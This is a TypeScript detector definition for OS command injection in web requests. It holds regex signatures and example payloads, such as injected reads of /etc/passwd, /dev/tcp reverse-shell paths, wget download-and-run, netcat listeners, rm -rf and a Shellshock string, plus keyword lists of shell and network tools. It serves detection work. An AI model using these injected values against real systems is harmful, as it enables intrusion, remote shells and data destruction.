import type { Detector } from './detector.ts'

const everywhere = ['query', 'body', 'path', 'referer', 'userAgent', 'user'] as const

export const commandInjection: Detector = {
  id: 'command-injection',
  type: 'command-injection',
  title: 'OS command injection',
  summary: 'A value that ends the command it was meant for and begins one of its own.',
  severity: 'critical',
  attack: ['T1190', 'T1059'],
  cwe: ['CWE-78'],
  references: [
    'https://owasp.org/www-community/attacks/Command_Injection',
    'https://cwe.mitre.org/data/definitions/78.html',
  ],
  falsePositives: ['Sites that search documentation of shells', 'Parameters separated by semicolons'],
  signatures: [
    {
      id: 'cmdi-separator',
      title: 'a separator, then a known command',
      fields: ['query', 'body', 'path', 'user'],
      view: 'shell',
      pattern:
        /(?:[;|&\n\r`]|\$\(|\{(?=[a-z]{2,10},)|<\(|>\(|\\n|%0a|\|\||&&|\bxargs\s|\bsudo\s)\s{0,4}(?:[({"'`]\s?)?(?:\/?(?:usr\/|bin\/|sbin\/|local\/){1,3})?(?:(?:cat|tac|ls|dir|type|id|whoami|who|uname|pwd|ifconfig|ipconfig|netstat|ping6?|nslookup|dig|host|wget|curl|lwp-download|fetch|nc|ncat|netcat|telnet|bash|sh|zsh|ksh|csh|dash|busybox|perl|python[23]?|ruby|php|node|lua|gcc|powershell(?:\.exe)?|pwsh|cmd(?:\.exe)?|certutil|bitsadmin|mshta|rundll32|regsvr32|wmic|reg|net|net1|sc|tasklist|systeminfo|sysinfo|netsh|ver|vol|set|env|printenv|echo|printf|rm|mv|cp|touch|mkdir|chmod|chown|kill|killall|ps|top|df|du|find|grep|egrep|awk|sed|head|tail|less|more|sort|nl|od|xxd|base64|strings|tee|tar|zip|gzip|ftp|tftp|scp|ssh|sleep|usleep|timeout|crontab|at|iptables|route|arp|useradd|adduser|passwd|mail|nmap|sudo|su|exec|eval|source|reboot|shutdown|halt|poweroff|socat|openssl|phpinfo|copy|del|ren|move|start|ipconfig|hostname|lsof|mount|history|last|w|system|passthru|shell_exec|popen|proc_open)(?:[\s;|&`)<>"'$\\{}/]|\d?>|$))/,
      confidence: 0.6,
      why: 'The command must stand right behind the separator; words after an equals sign alone are judged by cmdi-bare.',
      matches: [
        'host=1.1.1.1;cat+/etc/passwd',
        'host=x|id',
        'host=$(whoami)',
        'host=x;c""at+/x',
        'host=x%0aping+1',
      ],
      ignores: ['q=tea;coffee', 'q=salt+%26+pepper', 'a=1;b=2', 'q=cat+and+dog'],
    },
    {
      id: 'cmdi-substitution',
      title: 'a command substitution',
      fields: everywhere,
      view: 'shell',
      pattern:
        /\$\(\s{0,3}(?:[a-z_/.<`(]|\d+[-+*])[^)]{0,200}\)|`\s{0,3}(?:\/?[a-z][\w./-]{0,30})(?:\s[^`]{0,100})?`|\$\(\(\s?\d|<\(\s?[a-z]{2,10}\s/,
      confidence: 0.6,
      matches: ['host=$(sleep+5)', 'host=`id`', 'x=$((1+1))'],
      ignores: ['price=$(5)', 'q=$filter', 'q=markdown+`'],
    },
    {
      id: 'cmdi-shell-path',
      title: 'the path of a shell or tool',
      fields: everywhere,
      view: 'shell',
      pattern:
        /(?:^|[\s=;|&`"'(<>])\/(?:usr\/)?(?:local\/)?s?bin\/(?:[\w?*[\]]{2,20})|\/dev\/(?:tcp|udp)\/|\bcmd(?:\.exe|\s?\/[ck])\b|powershell(?:\.exe)?\s{1,3}-|\/\?\?\?\/|\bcomspec\b|\bsystem32[\\/]cmd|%comspec%/i,
      confidence: 0.75,
      matches: [
        'x=/bin/sh+-c+id',
        'x=/dev/tcp/203.0.113.5/4444',
        'x=cmd.exe+/c+dir',
        'x=powershell+-enc+aQ==',
      ],
      ignores: ['q=bin/collection', 'q=powershell+tutorial', 'path=/bins/1'],
    },
    {
      id: 'cmdi-call',
      title: 'a call that runs a command',
      fields: everywhere,
      view: 'decoded',
      pattern:
        /(?:\b|\d)(?:system|exec|eval|phpinfo|shell_exec|passthru|popen|proc_open|pcntl_exec|execSync|spawnSync?|os\.(?:system|popen|exec\w{0,3})|subprocess\.\w{3,12}|ProcessBuilder|IO\.popen|Kernel\.(?:exec|system))\s?\(\s?['"$)]|Runtime\.getRuntime\s?\(|\bchild_process\b|__import__\s?\(/i,
      confidence: 0.7,
      matches: ["x=system('id')", 'x=os.popen("id")', 'x=Runtime.getRuntime().exec("id")'],
      ignores: ['q=operating+system', 'q=exec+summary', 'q=system+(design)'],
    },
    {
      id: 'cmdi-download-run',
      title: 'download, unpack and run',
      fields: everywhere,
      view: 'shell',
      pattern:
        /\b(?:wget|curl|lwp-download|fetch|certutil|bitsadmin|invoke-webrequest|iwr)\s{1,3}(?:-{1,2}[\w-]{1,20}\s{1,3}){0,4}["']?(?:https?:|ftp:|\$|\d{1,3}\.\d{1,3}\.|[\w.-]{3,60}\/)|\|\s?(?:ba|z|k|c|da)?sh\b|\bchmod\s{1,3}(?:\+x|[0-7]{3,4})\s|\bnc\s{1,3}-[a-z]{1,6}|-e\s{1,3}\/bin\/|base64\s{1,3}(?:-d|--decode|-D)\b|rm\s{1,3}-[rf]{1,3}\s|\bping\s{1,3}-[cn]\s?\d|\b(?:iex[\s(]|downloadstring|invoke-expression|frombase64string|new-object\s)/i,
      confidence: 0.75,
      matches: ['x=wget+http://203.0.113.5/a.sh', 'x=|sh', 'x=nc+-lvvp+1235', 'x=ping+-c+3+a', 'x=rm+-rf+/'],
      ignores: ['q=curl+hair', 'q=ping+pong', 'q=wget+manual'],
    },
    {
      id: 'cmdi-shellshock',
      title: 'Shellshock (CVE-2014-6271)',
      fields: everywhere,
      view: 'decoded',
      pattern: /\(\s{0,3}\)\s{0,3}\{[^}]{0,60};?\s{0,3}\}?\s{0,3}[;>]/,
      confidence: 0.95,
      matches: ['x=()+{+:;};+/bin/id', 'x=()%20{%20_;}%20>_[$($())]'],
      ignores: ['q=f()+{+return+1', 'q=()+{}'],
    },
    {
      id: 'cmdi-separated-end',
      title: 'a shell separator where a value should end',
      fields: ['query'],
      view: 'decoded',
      pattern:
        /=[\w.:/-]{1,60}(?:\|\||&&|;;|\|&)\s{0,3}(?:$|["'\w/$(-])|=\s?[;|&]{1,2}\s{0,3}(?:\$|\/[a-z]|[a-z]{2,12}\s-{1,2}[a-z])|=[\w.]{0,20}\|(?:[a-z]{2,10})?(?:$|\|)|\$\{?IFS\}?|%0[ad]\s?(?:\/|[a-z]{2,10}\s-)|\\n\\?0?33|\$[@*][a-z]|\$\{?(?:PATH|HOME|SHELL|PWD|USER)\b[:}%#]/i,
      confidence: 0.55,
      matches: ['host=127.0.0.1||', 'host=;+ps+-ef', 'host=x${IFS}y', 'host=a|'],
      ignores: ['tags=a|b', 'q=this+||+that+', 'filter=a,b'],
    },
  ],
}
